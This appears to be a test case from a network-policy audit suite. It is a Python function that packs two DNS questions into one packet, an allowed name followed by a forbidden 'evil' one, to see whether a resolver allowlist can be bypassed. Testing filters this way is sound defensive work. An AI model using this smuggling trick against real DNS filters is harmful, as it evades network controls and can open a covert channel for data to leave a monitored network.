"""Two questions in one packet
Puts the telling name behind an allowed one.
policy: allowed-names
audit: dnsQuery
proof: arrival
"""
import struct


def attack(at):
    asker = at.udp()
    second = at.query(at.evil())[12:]
    packet = at.query(b'good.test')
    asker.sendto(packet[:4] + b'\0\2' + packet[6:] + second, (at.RESOLVER, 53))
    return b'good' in asker.recv(500)
